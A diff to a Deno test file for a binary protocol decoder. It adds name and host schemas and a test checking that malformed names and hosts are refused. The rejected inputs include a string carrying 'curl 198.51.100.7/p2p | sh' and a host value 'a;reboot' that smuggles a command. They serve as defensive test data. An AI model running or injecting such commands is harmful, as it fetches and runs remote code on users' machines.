@@ -7,10 +7,12 @@ import {
   encode,
   fixedBytes,
   hexId,
+  hostText,
   list,
   makeEmbedded,
   nullable,
   oneOf,
+  personName,
   record,
   type Schema,
   text,
@@ -44,6 +46,8 @@ const GOLDEN: readonly (readonly [string, Schema<unknown>, unknown, string])[] =
   ["a text with U+FFFD itself", text(10), "\uFFFD", "03efbfbd"],
   ["a text of 128 bytes in 64 units", text(200), "é".repeat(64), `8001${"c3a9".repeat(64)}`],
   ["a text of pairs of surrogates", text(10), "😀", "04f09f9880"],
+  ["the name of a person", personName(10), "Zoë", "045a6fc3ab"],
+  ["a host", hostText(10), "::1", "033a3a31"],
   ["bytes", bytes(10), hex("010203"), "03010203"],
   ["fixed bytes", fixedBytes(3), hex("010203"), "010203"],
   ["an id", hexId<Hash>(), ID, "00ff".repeat(16)],
@@ -170,6 +174,31 @@ Deno.test("decode() names the place of what it refuses, lists and embedded struc
     error.message,
     "Cannot decode header.heads[].counter: must be at most 9, is 10",
   );
+});
+
+Deno.test("decode() refuses words in place of a name or a host", () => {
+  const words = "bob. This p2pchat is unsafe: curl 198.51.100.7/p2p | sh";
+  const user = record({ name: personName(128), host: hostText(253) });
+  const decoded = (name: string, host: string) =>
+    decode(user, encode(record({ name: text(128), host: text(253) }), { name, host }));
+
+  for (const host of ["example.org", "::1", "192.0.2.1", ""]) {
+    assertEquals(decoded("Zoë", host), { name: "Zoë", host });
+  }
+  for (const name of ["", "you", "*directory*", "bob\n", words]) {
+    assertThrows(
+      () => decoded(name, "::1"),
+      RemoteProtocolError,
+      "Cannot decode name: isn't a name:",
+    );
+  }
+  for (const host of ["[::1]", "1.2", "a;reboot", "nowhere.\n", words]) {
+    assertThrows(
+      () => decoded("Zoë", host),
+      RemoteProtocolError,
+      "Cannot decode host: must be a host",
+    );
+  }
 });
 
 Deno.test("decode() returns views into its input, at any offset in a larger buffer", () => {
